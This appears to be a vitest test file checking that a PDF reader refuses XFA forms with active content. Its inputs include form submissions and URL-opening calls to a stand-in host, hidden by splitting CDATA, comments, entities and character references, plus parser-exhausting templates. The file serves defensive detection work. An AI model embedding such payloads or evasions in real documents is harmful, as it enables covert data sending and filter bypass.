import { describe, expect, test } from 'vitest';
import { defaultLimits } from '../../../lib/files/limits.ts';
import { readPdf } from '../../../lib/files/pdf/read.ts';
import { flate, onePage, type Parts, pdf } from './build.ts';

const template = (inside: string) =>
  `<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="cerfa">${inside}</subform></template>`;
const calculation =
  '<event activity="exit"><script contentType="application/x-javascript">if (this.rawValue &lt; 0) xfa.host.messageBox("Montant ?");</script></event>';

type Form = { xml?: string; page?: string; catalog?: string };
const form = ({ xml = template(calculation), page = '/Annots [7 0 R]', catalog = '' }: Form = {}): Parts => ({
  1: `<< /Type /Catalog /Pages 2 0 R ${catalog} /AcroForm << /Fields [7 0 R] /XFA [(preamble) 8 0 R (template) 9 0 R (postamble) 10 0 R] >> >>`,
  3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${page} >>`,
  7: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /V (Dupont) /Rect [0 0 90 20] >>',
  8: flate('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'),
  9: flate(xml),
  10: flate('</xdp:xdp>'),
});
const findings = async (parts: Parts, limits = defaultLimits) => (await readPdf(pdf(onePage(parts)), limits)).findings;
const refused = [{ code: 'pdf-active-content', severity: 'refusal', facts: { kinds: 'xfa' } }];
const script = (words: string) =>
  template(`<event activity="docReady"><script contentType="application/x-javascript">${words}</script></event>`);

describe('UPL-10: a form in XFA whose pages show its fields', () => {
  test.each([
    ['without scripts', form({ xml: template('<field name="nom"/>') })],
    ['with scripts that check values', form()],
    ['in UTF-16', { ...form(), 9: flate(Buffer.from(template(calculation), 'utf16le')) }],
  ])('%s is accepted with a warning', async (_, parts) => {
    expect(await findings(parts)).toEqual([{ code: 'pdf-xfa-form', severity: 'warning' }]);
  });

  test('is refused where the deployment refuses scripts of forms', async () => {
    const [finding] = await findings(form(), { ...defaultLimits, formScripts: 'refuse' });
    expect(finding?.severity).toBe('refusal');
  });
});

describe('UPL-10: a form in XFA that an agent would not see, or that acts', () => {
  test.each<[string, Form]>([
    ['is drawn from its XML alone', { catalog: '/NeedsRendering true' }],
    ['shows no field on its pages ("please wait …")', { page: '' }],
    [
      'is sent by a button',
      { xml: template('<event activity="click"><submit format="xml" target="http://a.b"/></event>') },
    ],
    ['is sent by an element with a prefix', { xml: template('<t:submit target="http://a.b"/>') }],
    ['asks a web service', { xml: `${template('')}<connectionSet><wsdlConnection name="a"/></connectionSet>` }],
    ['opens a page', { xml: script('app.launchURL("http://a.b")') }],
    ['opens a page by its host', { xml: script('xfa.host.gotoURL("http://a.b")') }],
    ['opens a page from a section', { xml: script('<![CDATA[ app.laun]]><![CDATA[chURL("http://a.b") ]]>') }],
    ['parts a word by a comment', { xml: script('app.laun<!-- -->chURL("http://a.b")') }],
    [
      'hides a call between marks of comments in a section',
      { xml: script('<![CDATA[ a = "<!--"; app.launchURL("http://a.b"); b = "-->" ]]>') },
    ],
    ['parts a word by an instruction', { xml: script('app.laun<?x y?>chURL("http://a.b")') }],
    ['spells a word in numbers', { xml: script('app.l&#97;unchURL("http://a.b")') }],
    ['defines entities', { xml: `<!DOCTYPE a [<!ENTITY u "app.launchURL">]>${script('&u;("http://a.b")')}` }],
    ['fetches by FormCalc', { xml: template('<calculate><script>Get("http://a.b")</script></calculate>') }],
    ['has a script that never ends', { xml: '<template><script>app.' }],
  ])('%s', async (_, parts) => {
    expect(await findings(form(parts))).toEqual(refused);
  });

  test.each<[string, Parts]>([
    ['packets that are not there', { 9: 'null' }],
    ['packets that do not unfold', { 9: '<< /Length 3 /Filter /FlateDecode >>\nstream\nxyz\nendstream' }],
  ])('%s', async (_, parts) => {
    expect(await findings({ ...form(), ...parts })).toEqual(refused);
  });

  test('a template made to be looked through for ever ends in a verdict', async () => {
    for (const part of ['<script', '<script>', '<!--', '<?', '<a:'])
      expect((await findings(form({ xml: `<template>${part.repeat(300_000)}` }))).length).toBe(1);
  });

  test('other things that it does are told with it', async () => {
    const both = form({ catalog: '/NeedsRendering true /OpenAction << /S /Launch /F (a) >>' });
    expect((await findings(both))[0]?.facts).toEqual({ kinds: 'launch, xfa' });
  });
});
